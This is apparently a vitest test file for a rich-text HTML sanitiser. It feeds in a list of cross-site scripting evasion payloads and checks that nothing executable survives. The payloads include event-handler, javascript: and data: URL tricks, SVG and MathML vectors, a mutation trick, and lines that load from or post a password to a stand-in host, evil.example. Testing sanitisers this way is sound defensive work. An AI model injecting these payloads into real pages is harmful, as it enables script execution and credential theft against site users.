// Throws the evasions that attackers write into rich text at the sanitiser.
import { describe, expect, it } from 'vitest';
import { sanitizeRichText } from './rich-text.ts';

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//x.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/m/../evil">x</a>',
  '<a href="https://user:pw@evil.example/">x</a>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>"></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="x.swf"></object><embed src=x>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import"//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password></form>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<img src="http://plain.example/x.png">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<<script>alert(1);//<</script>',
  '<details open ontoggle=alert(1)>x</details>',
];

describe('rich text', () => {
  it.each(attacks)('keeps nothing that acts of %s', (html) => {
    const left = sanitizeRichText(html);
    expect(left).not.toMatch(/<(script|style|iframe|object|embed|svg|math|form|input|link|meta)/i);
    expect(left).not.toMatch(/\son\w+\s*=|style=|<base|javascript:|data:|href="\/\/|@/i);
    expect(left).not.toMatch(/src="(?!https:|\/m\/)/i);
  });

  it('[POPUP-02] keeps words, their shape, safe links and safe pictures', () => {
    const written =
      '<h2>Piña &amp; co.</h2><p><b>Bold</b> <a href="/m/rewardCenter">here</a> or ' +
      '<a href="https://example.com/a?b=1">there</a> or ' +
      '<a href="http://example.com/c">out</a></p>' +
      '<ul><li>one</li></ul>' +
      '<img src="https://cdn.example/a.png" alt="A picture" />';
    expect(sanitizeRichText(written)).toBe(written);
  });

  it('is the same after a second time', () => {
    for (const html of attacks) {
      const once = sanitizeRichText(html);
      expect(sanitizeRichText(once)).toBe(once);
    }
  });
});
